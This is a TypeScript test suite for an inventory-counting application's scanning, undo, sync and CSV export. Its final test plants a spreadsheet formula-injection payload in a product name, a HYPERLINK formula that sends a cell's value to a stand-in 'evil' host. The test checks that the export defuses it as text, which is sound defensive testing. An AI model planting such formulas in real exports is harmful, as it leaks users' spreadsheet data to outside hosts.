import { afterEach, describe, expect, it } from 'vitest';
import { productsOf } from '../../../src/main/core/catalog/products-repo';
import { outboxOf } from '../../../src/main/core/outbox/outbox';
import { createCore } from '../../../src/main/core';
import { rig, type TestRig } from '../../support/core';

let t: TestRig;
afterEach(async () => t?.close());

const EAN = '8690345727803';
const EAN2 = '8690000000012'; // valid check digit, not a known product

async function setup(storageCodes = ['A-01']) {
  t = await rig();
  await t.signIn({ storageCodes });
  const ws = t.core.ctx.workspace();
  productsOf(ws).save({ sku: 'SKU-1', barcode: EAN, name: 'Çizim Seti' }, 'saved');
  productsOf(ws).save({ sku: 'SKU-2', barcode: '96385074', name: 'Kalem' }, 'saved');
  const open = await t.call('counts.open', { storageCode: 'A-01' });
  return open.session.id;
}

describe('counting', () => {
  it('a product barcode scanned where the storage code goes opens no count: it says whose barcode it is', async () => {
    await setup();
    const r = await t.core.call('counts.open', { storageCode: EAN });
    expect(r).toMatchObject({
      ok: false,
      error: { code: 'invalid_input', params: { reason: 'storage_code_is_product', code: EAN, sku: 'SKU-1', name: 'Çizim Seti' } },
    });
    expect((await t.call('counts.history', { limit: 10 })).map((c) => c.storageCode)).toEqual(['A-01']);
    // A storage code of the connection is a storage code, whatever the catalogue says.
    productsOf(t.core.ctx.workspace()).save({ sku: 'A-01', barcode: null, name: 'Raf etiketi' }, 'saved');
    expect((await t.call('counts.open', { storageCode: 'A-01' })).session.storageCode).toBe('A-01');
  });

  it('the label of a storage code scanned while counting is never counted: not the shelf being counted, nor another one (it was a line "A-01" of one unknown unit)', async () => {
    const id = await setup(['A-01', 'IADE-01']);
    // Also with the symbology identifier a scanner may send before a Code 128 (`]C0`).
    for (const code of ['A-01', 'a-01', 'IADE-01', ']C0A-01']) {
      const r = await t.core.call('counts.scan', { sessionId: id, code });
      expect(r).toMatchObject({ ok: false, error: { code: 'invalid_input', params: { reason: 'storage_code_scanned' } } });
    }
    expect((await t.call('counts.get', { sessionId: id })).lines).toEqual([]);
    // Typed as one, a storage code some product also carries as its SKU is that product.
    productsOf(t.core.ctx.workspace()).save({ sku: 'IADE-01', barcode: null, name: 'İade kutusu' }, 'saved');
    expect((await t.call('counts.scan', { sessionId: id, code: 'IADE-01' })).outcome).toBe('counted');
  });

  it('a storage code typed in other letters (iade-01, İADE-01) opens the count of the connection’s IADE-01', async () => {
    t = await rig();
    await t.signIn({ storageCodes: ['IADE-01', 'ŞUBE-2'] });
    const first = await t.call('counts.open', { storageCode: 'iade-01' });
    expect(first.session.storageCode).toBe('IADE-01');
    expect((await t.call('counts.open', { storageCode: 'İADE-01' })).session.id).toBe(first.session.id);
    expect((await t.call('counts.open', { storageCode: 'IADE-01' })).session.id).toBe(first.session.id);
    // A code of no shelf of the connection is kept as typed.
    expect((await t.call('counts.open', { storageCode: 'b-07' })).session.storageCode).toBe('b-07');
    expect((await t.call('counts.open', { storageCode: 'şube-2' })).session.storageCode).toBe('ŞUBE-2');
  });

  it('a scan the core cannot take says why: too many units at once, too long, characters no label prints', async () => {
    const id = await setup();
    const reason = async (input: { code: string; quantity?: number }) => {
      const r = await t.core.call('counts.scan', { sessionId: id, ...input });
      return r.ok ? 'counted' : r.error.params?.reason;
    };
    expect(await reason({ code: EAN, quantity: 100_001 })).toBe('scan_quantity_too_large');
    expect(await reason({ code: '8'.repeat(600) })).toBe('scan_too_long');
    expect(await reason({ code: 'AB\u0007C\u0000D' })).toBe('code_control_chars');
    expect(await t.core.call('counts.setLine', { sessionId: id, sku: 'A\u001b[31mRED', quantity: 1 })).toMatchObject({
      ok: false,
      error: { params: { reason: 'code_control_chars' } },
    });
    expect((await t.call('counts.get', { sessionId: id })).lines).toEqual([]);
    // A GS1 code keeps its separator (GS), and 100,000 is still one scan.
    expect(await reason({ code: EAN, quantity: 100_000 })).toBe('counted');
  });

  it('a storage code with a space is refused with the reason, so the worker is told what a code may hold', async () => {
    t = await rig();
    await t.signIn();
    const r = await t.core.call('counts.open', { storageCode: 'A 01' });
    expect(r).toMatchObject({ ok: false, error: { code: 'invalid_input', params: { reason: 'storage_code_chars' } } });
  });

  it('counts scans by barcode and SKU, with quantity entry, and keeps a running total', async () => {
    const id = await setup();
    const a = await t.call('counts.scan', { sessionId: id, code: EAN });
    expect(a).toMatchObject({ outcome: 'counted', via: 'barcode', line: { sku: 'SKU-1', quantity: 1, name: 'Çizim Seti' } });
    await t.call('counts.scan', { sessionId: id, code: EAN });
    const c = await t.call('counts.scan', { sessionId: id, code: 'SKU-2', quantity: 12 });
    expect(c).toMatchObject({ via: 'sku', line: { sku: 'SKU-2', quantity: 12 }, session: { totalUnits: 14, lineCount: 2 } });
  });

  it('tells a misread from an unknown product, and remembers an assignment', async () => {
    const id = await setup();
    const misread = await t.call('counts.scan', { sessionId: id, code: '8690345727804' });
    expect(misread).toMatchObject({ outcome: 'misread', line: null, gtin: { kind: 'EAN-13', expected: 3 }, session: { totalUnits: 0 } });
    const unknown = await t.call('counts.scan', { sessionId: id, code: EAN2 });
    expect(unknown).toMatchObject({ outcome: 'unknown', line: { sku: EAN2, unknown: true, quantity: 1 } });
    await t.call('counts.scan', { sessionId: id, code: EAN2 });
    const assigned = await t.call('counts.assign', { sessionId: id, code: EAN2, sku: 'SKU-1' });
    expect(assigned.removed).toEqual([EAN2]);
    expect(assigned.lines).toEqual([expect.objectContaining({ sku: 'SKU-1', quantity: 2, unknown: false })]);
    // Remembered: the next scan of that code counts as SKU-1 straight away.
    expect(await t.call('counts.scan', { sessionId: id, code: EAN2 })).toMatchObject({
      outcome: 'counted',
      via: 'alias',
      line: { sku: 'SKU-1', quantity: 3 },
    });
    // Counted as its own SKU.
    await t.call('counts.scan', { sessionId: id, code: 'RAF-ETIKET-9' });
    const own = await t.call('counts.assign', { sessionId: id, code: 'RAF-ETIKET-9', own: true });
    expect(own.lines[0]).toMatchObject({ sku: 'RAF-ETIKET-9', unknown: false, quantity: 1 });
    expect(await t.call('counts.scan', { sessionId: id, code: 'raf-etiket-9' })).toMatchObject({
      outcome: 'counted',
      line: { sku: 'RAF-ETIKET-9', quantity: 2 },
    });
  });

  it('an unknown code assigned to a product’s barcode (scanned into the field) goes to that product’s SKU, without asking', async () => {
    const id = await setup();
    await t.call('counts.scan', { sessionId: id, code: EAN2 });
    const assigned = await t.call('counts.assign', { sessionId: id, code: EAN2, sku: EAN });
    expect(assigned.lines).toEqual([expect.objectContaining({ sku: 'SKU-1', quantity: 1, unknown: false })]);
    expect(await t.call('counts.scan', { sessionId: id, code: EAN2 })).toMatchObject({
      outcome: 'counted',
      line: { sku: 'SKU-1', quantity: 2 },
    });
  });

  it('sets, removes and undoes lines, newest first', async () => {
    const id = await setup();
    await t.call('counts.scan', { sessionId: id, code: EAN });
    await t.call('counts.scan', { sessionId: id, code: EAN, quantity: 5 });
    await t.call('counts.setLine', { sessionId: id, sku: 'SKU-2', quantity: 40 });
    await t.call('counts.removeLine', { sessionId: id, sku: 'SKU-1' });
    let d = await t.call('counts.get', { sessionId: id });
    expect(d.lines.map((l) => [l.sku, l.quantity])).toEqual([['SKU-2', 40]]);
    expect(d.session).toMatchObject({ totalUnits: 40, lineCount: 1 });
    await t.call('counts.undo', { sessionId: id, steps: 1 }); // the remove
    d = await t.call('counts.get', { sessionId: id });
    expect(Object.fromEntries(d.lines.map((l) => [l.sku, l.quantity]))).toEqual({ 'SKU-1': 6, 'SKU-2': 40 });
    await t.call('counts.undo', { sessionId: id, steps: 2 }); // the set, then the 5
    d = await t.call('counts.get', { sessionId: id });
    expect(d.lines.map((l) => [l.sku, l.quantity])).toEqual([['SKU-1', 1]]);
    expect(d.session).toMatchObject({ totalUnits: 1, lineCount: 1 });
    await t.call('counts.undo', { sessionId: id, steps: 10 });
    expect((await t.call('counts.get', { sessionId: id })).session).toMatchObject({ totalUnits: 0, lineCount: 0 });
  });

  it('undo after "Assign to SKU…" takes the scans back from the SKU they were moved to (issue 12.4)', async () => {
    const id = await setup();
    for (let i = 0; i < 3; i++) await t.call('counts.scan', { sessionId: id, code: EAN2 });
    await t.call('counts.assign', { sessionId: id, code: EAN2, sku: 'SKU-1' });
    let d = await t.call('counts.get', { sessionId: id });
    expect(d.lines.map((l) => [l.sku, l.quantity])).toEqual([['SKU-1', 3]]);
    const undone = await t.call('counts.undo', { sessionId: id, steps: 2 });
    expect(undone.lines).toEqual([expect.objectContaining({ sku: 'SKU-1', quantity: 1 })]);
    d = await t.call('counts.get', { sessionId: id });
    expect(d.lines.map((l) => [l.sku, l.quantity])).toEqual([['SKU-1', 1]]);
    expect(d.session).toMatchObject({ totalUnits: 1, lineCount: 1 });
    await t.call('counts.undo', { sessionId: id, steps: 1 });
    d = await t.call('counts.get', { sessionId: id });
    expect(d.lines).toEqual([]);
    expect(d.session).toMatchObject({ totalUnits: 0, lineCount: 0 });
    expect(await t.core.call('counts.push', { sessionId: id, confirmed: true })).toMatchObject({ ok: false, error: { code: 'conflict' } });
  });

  it('assigning a code to a SKU the catalogue does not know needs a confirmation (issue 11.8)', async () => {
    const id = await setup();
    await t.call('counts.scan', { sessionId: id, code: EAN2 });
    const refused = await t.core.call('counts.assign', { sessionId: id, code: EAN2, sku: 'SKU-1X' });
    expect(refused).toMatchObject({ ok: false, error: { code: 'needs_confirmation', params: { sku: 'SKU-1X' } } });
    // Nothing remembered: the next scan is still unknown.
    expect(await t.call('counts.scan', { sessionId: id, code: EAN2 })).toMatchObject({ outcome: 'unknown' });
    const done = await t.call('counts.assign', { sessionId: id, code: EAN2, sku: 'SKU-1X', confirmed: true });
    expect(done.lines).toEqual([expect.objectContaining({ sku: 'SKU-1X', quantity: 2, unknown: false })]);
  });

  it('keeps an open count across a restart and continues it', async () => {
    const id = await setup();
    await t.call('counts.scan', { sessionId: id, code: EAN, quantity: 3 });
    await t.core.close();
    const core = createCore({ dataDir: t.dataDir, host: 'test', background: false, log: () => undefined });
    t.core = core;
    const profileId = core.ctx.settings.get().activeProfileId!;
    await core.call('session.signIn', { profileId, userName: 'demo', password: 'demo1234' });
    const again = await core.call('counts.open', { storageCode: 'A-01' });
    expect(again).toMatchObject({ ok: true, value: { session: { id, totalUnits: 3 }, lastScan: { code: EAN, delta: 3 } } });
  });

  it('reviews against the previous count, asks before zeroing or big changes, and pushes through the outbox', async () => {
    const id = await setup();
    await t.call('counts.scan', { sessionId: id, code: EAN, quantity: 100 });
    await t.call('counts.scan', { sessionId: id, code: 'SKU-2', quantity: 5 });
    const first = await t.call('counts.push', { sessionId: id });
    expect(first.items).toBe(2);
    await outboxOf(t.core.ctx.workspace(), t.core.ctx).drain();
    expect(((await t.admin('inventory')) as { items: unknown[] }).items).toHaveLength(2);

    const next = (await t.call('counts.open', { storageCode: 'A-01' })).session.id;
    expect(next).not.toBe(id);
    await t.call('counts.scan', { sessionId: next, code: EAN, quantity: 20 });
    const r = await t.call('counts.review', { sessionId: next, zeroMissing: true });
    expect(r.lines).toEqual([expect.objectContaining({ sku: 'SKU-1', quantity: 20, previous: 100, risk: 'big_change' })]);
    expect(r.missing).toEqual([expect.objectContaining({ sku: 'SKU-2', previous: 5 })]);
    expect(r.needsConfirmation).toBe(true);
    const refused = await t.core.call('counts.push', { sessionId: next, zeroMissing: true });
    expect(refused).toMatchObject({ ok: false, error: { code: 'needs_confirmation' } });
    await t.call('counts.push', { sessionId: next, zeroMissing: true, confirmed: true });
    await outboxOf(t.core.ctx.workspace(), t.core.ctx).drain();
    const stock = (await t.admin('inventory')) as { items: { sku: string; qty: number }[] };
    expect(Object.fromEntries(stock.items.map((i) => [i.sku, i.qty]))).toEqual({ 'SKU-1': 20, 'SKU-2': 0 });
  });

  it('refuses to push unknown codes until they are resolved', async () => {
    const id = await setup();
    await t.call('counts.scan', { sessionId: id, code: EAN2 });
    expect(await t.core.call('counts.push', { sessionId: id, confirmed: true })).toMatchObject({ ok: false, error: { code: 'conflict' } });
  });

  it('exports a count as CSV a spreadsheet opens', async () => {
    const id = await setup();
    await t.call('counts.scan', { sessionId: id, code: EAN, quantity: 2 });
    const e = await t.call('counts.export', { sessionId: id });
    expect(e.filename).toMatch(/^count-A-01-\d{4}-\d\d-\d\d-\d+\.csv$/);
    const [header, row, end] = e.csv.split('\r\n');
    // The worker's language by default (Turkish here; issue 46.12: the columns were codes).
    expect(header).toBe(
      '\uFEFFDepo kodu;SKU;Barkod;Ürün;Sayılan;Sayan;Bilgisayar;Sayım başladı;Sayım bitti;İlk okutma;Son okutma;Yeniden sayım;Seçilen adet;Sayarken hareket eden;Hareket için seçim;Gönderilen',
    );
    expect(row).toMatch(new RegExp(`^A-01;SKU-1;${EAN};Çizim Seti;2;demo;[^;]+;\\d{4}-[^;]+;;\\d{4}-[^;]+;\\d{4}-[^;]+;;;;;$`));
    expect(end).toBe('');
    await t.call('settings.update', { language: 'en' });
    expect((await t.call('counts.export', { sessionId: id })).csv.split('\r\n')[0]).toBe(
      '\uFEFFStorage code;SKU;Barcode;Product;Counted;Counted by;Computer;Count started;Count ended;First scan;Last scan;Recount;Quantity chosen;Moved while counting;Choice for what moved;Sent',
    );
    // The option for another program: the machine-readable codes, whatever the language.
    await t.call('settings.update', { exportCodes: true });
    const codes = (await t.call('counts.export', { sessionId: id })).csv.split('\r\n');
    expect(codes[0]).toBe(
      '\uFEFFstorage_code;sku;barcode;name;qty;worker;station;started_at;ended_at;first_scan_at;last_scan_at;recount;recount_choice;moved_units;movement_choice;sent_qty',
    );
    expect(codes[1]).toBe(row);
  });

  it('export: a product named like a formula is written as text, not as a live formula', async () => {
    const id = await setup();
    productsOf(t.core.ctx.workspace()).save({ sku: 'SKU-1', barcode: EAN, name: '=HYPERLINK("http://evil/?"&A1,"x")' }, 'saved');
    await t.call('counts.scan', { sessionId: id, code: EAN, quantity: 2 });
    const e = await t.call('counts.export', { sessionId: id });
    expect(e.csv.split('\r\n')[1]).toMatch(new RegExp(`^A-01;SKU-1;${EAN};"'=HYPERLINK\\(""http://evil/\\?""&A1,""x""\\)";2;demo;`));
  });
});
